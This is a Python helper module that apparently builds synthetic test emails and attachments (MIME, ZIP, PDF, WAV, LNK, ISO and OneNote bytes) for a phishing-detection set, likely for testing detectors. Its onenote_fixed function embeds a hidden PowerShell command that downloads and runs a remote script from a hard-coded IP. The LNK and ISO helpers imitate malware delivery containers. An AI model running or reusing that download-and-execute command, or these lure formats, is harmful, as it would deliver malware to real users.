# ruff: noqa: E501
"""Helpers for the blind5 set: deterministic MIME, ZIP, PDF, WAV and QR bytes."""

from __future__ import annotations

import hashlib
import io
import math
import struct
import sys
import wave
import zipfile
from email import policy
from email.message import EmailMessage
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "modern" / "generator"))
from common import dkim, qr_png

OUT = Path(__file__).resolve().parent.parent
TO = "Daniel Okafor <daniel.okafor@cedarpoint-legal.example>"
MX = "mx1.cedarpoint-legal.example"

Att = tuple[bytes, str, str, str]


def rcv(host: str, ip: str, when: str, seed: str) -> str:
    qid = hashlib.sha256(seed.encode()).hexdigest()[:12].upper()
    return (f"from {host} ({host} [{ip}])\r\n\tby {MX} (Postfix) with ESMTPS id {qid}\r\n"
            f"\tfor <daniel.okafor@cedarpoint-legal.example>; {when}")


def build(sub: str, name: str, *, frm: str, subject: str, date: str, msgid: str, host: str, ip: str,
          to: str = TO, dkim_domain: str | None = None, extra: list[tuple[str, str]] | None = None,
          text: str | None = None, html: str | None = None, attachments: list[Att] | None = None) -> None:
    """Write OUT/sub/name with CRLF line ends and fixed MIME boundaries."""
    head = [f"Received: {rcv(host, ip, date, name)}\r\n"]
    if dkim_domain:
        head.append(f"DKIM-Signature: {dkim(dkim_domain, 's1', name)}\r\n")
    folder = policy.SMTP.clone(max_line_length=998)
    for k, v in [("From", frm), ("To", to), ("Subject", subject), ("Date", date), ("Message-ID", msgid), *(extra or [])]:
        head.append(folder.fold(k, v))
    msg = EmailMessage(policy=policy.SMTP)
    if text is not None:
        msg.set_content(text, cte="quoted-printable")
        if html is not None:
            msg.add_alternative(html, subtype="html", cte="quoted-printable")
    elif html is not None:
        msg.set_content(html, subtype="html", cte="quoted-printable")
    for data, main, subt, filename in attachments or []:
        msg.add_attachment(data, maintype=main, subtype=subt, filename=filename)
    tag = hashlib.sha256(name.encode()).hexdigest()[:16]
    for i, part in enumerate(p for p in msg.walk() if p.is_multipart()):
        part.set_boundary(f"----=_Part_{i}_{tag}")
    path = OUT / sub / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes("".join(head).encode() + msg.as_bytes())


def zip_fixed(members: list[tuple[str, bytes]], password_note: bool = False) -> bytes:
    """A ZIP with fixed timestamps, so reruns are byte-identical. Python cannot encrypt; the
    encrypted flag is set by hand on each entry, as a password-protected archive has it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 20, 9, 14, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    raw = bytearray(buf.getvalue())
    if password_note:
        # set general-purpose bit 0 (encrypted) in local and central headers
        for sig in (b"PK\x03\x04", b"PK\x01\x02"):
            off = 6 if sig == b"PK\x03\x04" else 8
            i = raw.find(sig)
            while i != -1:
                raw[i + off] |= 1
                i = raw.find(sig, i + 4)
    return bytes(raw)


def pdf_text(lines: list[str], uri: str | None = None) -> bytes:
    """A minimal one-page PDF with text and, optionally, a link annotation over the page."""
    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream = "BT /F1 11 Tf 50 760 Td 14 TL " + " ".join(f"({esc(s)}) '" for s in lines) + " ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
            + (" /Annots [6 0 R]" if uri else "") + " >>",
            f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    if uri:
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [40 40 572 752] /Border [0 0 0] /A << /S /URI /URI ({esc(uri)}) >> >>")
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{o:010d} 00000 n \n" for o in offs).encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n".encode()
    return out


def wav_tone(seconds: float = 2.0) -> bytes:
    """A short 8 kHz mono WAV, like a telephony voicemail recording."""
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        frames = b"".join(struct.pack("<h", int(3000 * math.sin(2 * math.pi * 220 * n / 8000) * math.sin(math.pi * n / 16000)))
                          for n in range(int(8000 * seconds)))
        w.writeframes(frames)
    return buf.getvalue()


def lnk_bytes(target: str) -> bytes:
    """The header of a Windows shortcut (MS-SHLLINK), followed by the command line as UTF-16."""
    head = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0xE0)
    return head + bytes(0x4C - len(head)) + target.encode("utf-16-le")


def iso_fixed(payload_name: str) -> bytes:
    data = bytearray(36864)
    data[32768:32774] = b"\x01CD001"
    data[32808:32820] = b"SCAN_11_2026"
    data[34816:34816 + len(payload_name)] = payload_name.encode()
    data[35000:35002] = b"MZ"
    return bytes(data)


def onenote_fixed(embedded: str) -> bytes:
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    return guid + bytes(64) + b"\x00" * 16 + embedded.encode("utf-16-le") + b"\r\n@echo off\r\npowershell -w hidden -ep bypass -c iex(iwr 'http://185.222.58.14/a.ps1')\r\n"


__all__ = ["OUT", "TO", "Att", "build", "iso_fixed", "lnk_bytes", "onenote_fixed", "pdf_text", "qr_png", "wav_tone", "zip_fixed"]
